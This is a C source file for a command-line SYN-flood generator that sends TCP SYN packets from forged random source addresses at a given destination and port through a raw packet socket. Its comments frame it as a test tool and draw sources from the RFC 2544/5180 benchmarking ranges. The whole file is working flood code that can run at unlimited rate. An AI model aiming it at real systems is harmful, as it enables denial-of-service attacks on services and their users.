/* SPDX-License-Identifier: BSD-3-Clause */

/*
 * A SYN flood from forged sources, out of one interface:
 *
 *     flood IFACE DESTINATION-MAC DESTINATION PORT PACKETS-PER-SECOND SECONDS
 *
 * 0 packets per second: as many as go. Sources are 198.18.0.0/15 or 2001:2::/64 (networks for such tests,
 * RFC 2544 and 5180), a new one each time. Prints how many were sent.
 */

#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum { BATCH = 64, TCP_LEN = 24 };

static uint64_t seed = 88172645463325252;

static uint64_t next_random(void)
{
	seed ^= seed << 13;
	seed ^= seed >> 7;
	seed ^= seed << 17;
	return seed;
}

static uint32_t sum(const uint8_t *p, size_t len, uint32_t s)
{
	for (size_t i = 0; i < len; i += 2)
		s += (uint32_t)p[i] << 8 | p[i + 1];
	return s;
}

static void put(uint8_t *p, uint32_t s)
{
	while (s >> 16)
		s = (s & 0xffff) + (s >> 16);
	p[0] = (uint8_t)(~s >> 8);
	p[1] = (uint8_t)~s;
}

/* Another source and port, and the sums to them. @return the frame's length */
static size_t make(uint8_t *frame, int family, const uint8_t *dst, uint16_t port)
{
	const uint64_t r = next_random();
	uint8_t *ip = frame + 14;
	uint8_t *tcp = ip + (family == AF_INET ? 20 : 40);
	const size_t addr_len = family == AF_INET ? 4 : 16;
	uint8_t *src = ip + (family == AF_INET ? 12 : 8);

	memset(ip, 0, 40 + TCP_LEN);
	if (family == AF_INET) {
		ip[0] = 0x45;
		ip[3] = 20 + TCP_LEN;
		ip[8] = 64;
		ip[9] = IPPROTO_TCP;
		memcpy(src,
		       (uint8_t[]){198, (uint8_t)(18 + (r & 1)), (uint8_t)(r >> 8),
				   (uint8_t)(r >> 16)},
		       4);
	} else {
		ip[0] = 0x60;
		ip[5] = TCP_LEN;
		ip[6] = IPPROTO_TCP;
		ip[7] = 64;
		memcpy(src, (uint8_t[]){0x20, 0x01, 0x00, 0x02}, 4);
		memcpy(src + 8, &r, 8);
	}
	memcpy(src + addr_len, dst, addr_len);
	tcp[0] = (uint8_t)(4 + (r >> 56) % 250);
	tcp[1] = (uint8_t)(r >> 48);
	tcp[2] = (uint8_t)(port >> 8);
	tcp[3] = (uint8_t)port;
	memcpy(tcp + 4, &r, 4);
	tcp[12] = TCP_LEN / 4 << 4;
	tcp[13] = 0x02; /* SYN */
	tcp[14] = 0xff;
	memcpy(tcp + 20, (uint8_t[]){2, 4, 0x05, 0xb4}, 4); /* MSS 1460 */
	put(tcp + 16, sum(tcp, TCP_LEN, sum(src, 2 * addr_len, IPPROTO_TCP + TCP_LEN)));
	if (family == AF_INET)
		put(ip + 10, sum(ip, 20, 0));
	return (size_t)(tcp - frame) + TCP_LEN;
}

static uint64_t now_ns(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * 1000000000 + (uint64_t)ts.tv_nsec;
}

int main(int argc, char **argv)
{
	static uint8_t frames[BATCH][128];
	struct sockaddr_ll to = {.sll_family = AF_PACKET};
	struct mmsghdr messages[BATCH] = {0};
	struct iovec iov[BATCH];
	uint64_t sent = 0, begin, end;
	unsigned int mac[6];
	uint8_t dst[16];
	int family, fd;
	double rate;

	if (argc != 7 || sscanf(argv[2], "%x:%x:%x:%x:%x:%x", mac, mac + 1, mac + 2, mac + 3,
				mac + 4, mac + 5) != 6) {
		fprintf(stderr, "usage: flood IFACE MAC DESTINATION PORT RATE SECONDS\n");
		return 2;
	}
	family = strchr(argv[3], ':') ? AF_INET6 : AF_INET;
	fd = socket(AF_PACKET, SOCK_RAW, 0);
	to.sll_ifindex = (int)if_nametoindex(argv[1]);
	if (inet_pton(family, argv[3], dst) != 1 || fd < 0 || to.sll_ifindex == 0 ||
	    bind(fd, (struct sockaddr *)&to, sizeof(to)) != 0) {
		perror("flood");
		return 1;
	}
	for (int i = 0; i < BATCH; i++) {
		for (int k = 0; k < 6; k++)
			frames[i][k] = (uint8_t)mac[k];
		memcpy(frames[i] + 6, (uint8_t[]){2, 0xf1, 0, 0, 0, 0}, 6);
		frames[i][12] = family == AF_INET ? 0x08 : 0x86;
		frames[i][13] = family == AF_INET ? 0x00 : 0xdd;
		messages[i].msg_hdr = (struct msghdr){.msg_iov = &iov[i], .msg_iovlen = 1};
	}
	rate = atof(argv[5]);
	begin = now_ns();
	end = begin + (uint64_t)(atof(argv[6]) * 1e9);
	for (uint64_t now = begin; now < end; now = now_ns()) {
		double due = rate > 0 ? rate * (double)(now - begin) / 1e9 : (double)sent + BATCH;
		int n;

		if (due < (double)sent + BATCH && rate > 0) {
			const uint64_t wait_ns =
				(uint64_t)(((double)sent + BATCH - due) / rate * 1e9);

			nanosleep(&(struct timespec){0,
						     (long)(wait_ns < 1000000 ? wait_ns : 1000000)},
				  NULL);
			continue;
		}
		for (int i = 0; i < BATCH; i++) {
			iov[i].iov_base = frames[i];
			iov[i].iov_len = make(frames[i], family, dst, (uint16_t)atoi(argv[4]));
		}
		n = sendmmsg(fd, messages, BATCH, 0);
		if (n > 0)
			sent += (uint64_t)n;
		else if (errno != ENOBUFS && errno != EAGAIN)
			return 1;
	}
	printf("%llu\n", (unsigned long long)sent);
	return 0;
}
